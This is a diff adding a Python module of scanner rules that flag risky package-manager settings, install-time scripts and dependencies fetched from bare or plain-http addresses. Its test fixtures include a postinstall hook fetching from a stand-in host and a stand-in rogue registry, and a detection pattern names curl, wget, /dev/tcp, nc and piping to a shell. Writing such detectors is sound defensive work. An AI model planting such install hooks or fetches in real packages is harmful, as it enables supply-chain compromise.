@@ -1,0 +1,166 @@
+"""Files of package managers that a plugin brings: settings that redirect an install, scripts that run at one."""
+
+from __future__ import annotations
+
+import json
+import re
+from typing import TYPE_CHECKING
+
+from scan.model import Severity, Standing
+from scan.rules.base import Seen, rule
+from scan.rules.known import host_kind, host_of, is_local, is_plain_http
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator
+
+    from scan.plugin import Plugin
+    from scan.texts import Text
+
+REGISTRIES = (
+    "npmjs.org",
+    "npmjs.com",
+    "yarnpkg.com",
+    "npm.pkg.github.com",
+    "jsr.io",
+    "pypi.org",
+    "pythonhosted.org",
+    "crates.io",
+)
+_LOADS = re.compile(
+    r"(?m)^\s*(?:yarnPath|yarn-path|plugins|onload-script|node-options|script-shell|git|globalconfig|init-module|pnpmfile|shell-emulator)\s*[:=]\s*(.+)$"
+)
+_REGISTRY = re.compile(
+    r"(?m)^\s*(?:(?:@[\w.-]+:)?registry|npmRegistryServer|index-url|extra-index-url|index_url|replace-with)\s*[:=]\s*[\"']?(\S+?)[\"']?\s*$"
+)
+
+
+@rule(
+    "package-settings",
+    "caution",
+    flags=(
+        {".npmrc": "registry=https://registry.collect.example/\n"},
+        {".yarnrc.yml": "yarnPath: ./.yarn/x.cjs\n"},
+        {".npmrc": "script-shell=./run.sh\n"},
+    ),
+    clears=(
+        {".npmrc": "save-exact=true\nregistry=https://registry.npmjs.org/\n"},
+        {".yarnrc.yml": "nodeLinker: node-modules\n"},
+    ),
+)
+def package_settings(text: Text, plugin: Plugin) -> Iterator[Seen]:
+    """Settings of npm, yarn, pnpm or pip in the plugin's folder that load code or fetch packages from elsewhere.
+
+    Why: whoever runs the package manager there, a scanner too, runs that code or gets those packages.
+
+    Remedy: take the file out, or read where it points.
+    """
+    name = plugin.local(text.path).rsplit("/", 1)[-1].lower()
+    if name not in {
+        ".npmrc",
+        ".yarnrc",
+        ".yarnrc.yml",
+        "pip.conf",
+        ".pnpmfile.cjs",
+        "bunfig.toml",
+        "uv.toml",
+    } or text.standing in {Standing.test, Standing.example}:
+        return
+    match = _LOADS.search(text.text)
+    if match and not (name == ".yarnrc.yml" and re.search(r"\.yarn/releases/yarn-[\d.]+\.cjs", match[1])):
+        yield Seen("loads code into every run of the package manager", text, match.start(), match.end())
+    for found in _REGISTRY.finditer(text.text):
+        host = host_of(found[1])
+        if host and not is_local(host) and not host.endswith(REGISTRIES):
+            grave = bool(host_kind(found[1])) or is_plain_http(found[1])
+            yield Seen(
+                f"packages are fetched from {host}",
+                text,
+                found.start(),
+                found.end(),
+                Severity.danger if grave else Severity.caution,
+            )
+    if name == ".pnpmfile.cjs" and re.search(r"child_process|https?://|execSync", text.text):
+        yield Seen("starts programs in every run of the package manager", text, 0, 1)
+
+
+@rule(
+    "lifecycle-acts",
+    "caution",
+    over="plugin",
+    flags={
+        "package.json": '{"name": "a", "scripts": {"postinstall": "node -e \\"require(\'https\').get(\'https://x.example/p\')\\""}}'
+    },
+    clears={"package.json": '{"name": "a", "scripts": {"postinstall": "patch-package", "test": "vitest"}}'},
+)
+def lifecycle_acts(plugin: Plugin, _: Plugin) -> Iterator[Seen]:
+    """A package script that runs at install and reaches out, or starts an inline program.
+
+    Why: an install is all it takes.
+
+    Remedy: install with scripts switched off; read what it does.
+    """
+    for run in plugin.runs:
+        if run.kind == "lifecycle" and _REACHES.search(run.text):
+            yield Seen(
+                f"{run.name or run.when} reaches out at install: {run.shown[:120]}",
+                path=run.path,
+                line=run.line,
+                shown=run.shown,
+            )
+
+
+_REACHES = re.compile(
+    r"\bcurl\b|\bwget\b|https?://|node\s+(?:-e|--eval)|python3?\s+-c|base64|\|\s*(?:ba)?sh\b|/dev/tcp|\beval\b|\bnc\s"
+)
+
+
+@rule(
+    "dependency-elsewhere",
+    "caution",
+    flags={"package.json": '{"name": "a", "dependencies": {"helper": "http://198.51.100.4/helper.tgz"}}'},
+    clears={"package.json": '{"name": "a", "dependencies": {"zod": "^3.0.0", "lib": "github:acme/lib"}}'},
+)
+def dependency_elsewhere(text: Text, plugin: Plugin) -> Iterator[Seen]:
+    """A dependency that is fetched from a bare address, a tunnel or over plain http.
+
+    Why: whoever holds the place, or the way to it, decides what is installed.
+
+    Remedy: take it from the registry, with its checksum in the lock file.
+    """
+    name = plugin.local(text.path).rsplit("/", 1)[-1]
+    if (
+        name not in {"package.json", "requirements.txt", "pyproject.toml"}
+        or "://" not in text.text
+        or text.standing in {Standing.test, Standing.example}
+    ):
+        return
+    for url in _declared_urls(name, text.text):
+        kind = host_kind(url) or ("plain http" if is_plain_http(url) else "")
+        if kind:
+            place = max(text.text.find(url), 0)
+            yield Seen(f"a dependency from {kind}: {url}", text, place, place + len(url))
+
+
+def _declared_urls(name: str, source: str) -> Iterator[str]:
+    if name != "package.json":
+        yield from (
+            re.findall(r"(?m)(?:^|@\s*|=\s*[\"'])((?:git\+)?https?://[^\s\"',;#]+)", source)
+            if name == "requirements.txt"
+            else ()
+        )
+        return
+    try:
+        declared = json.loads(source)
+    except (ValueError, RecursionError):
+        return
+    for key in ("dependencies", "devDependencies", "optionalDependencies", "peerDependencies", "overrides"):
+        for value in (
+            (declared.get(key) or {}).values()
+            if isinstance(declared, dict) and isinstance(declared.get(key), dict)
+            else ()
+        ):
+            if isinstance(value, str) and "://" in value:
+                yield value.removeprefix("git+")
+
+
+RULES = (package_settings, lifecycle_acts, dependency_elsewhere)
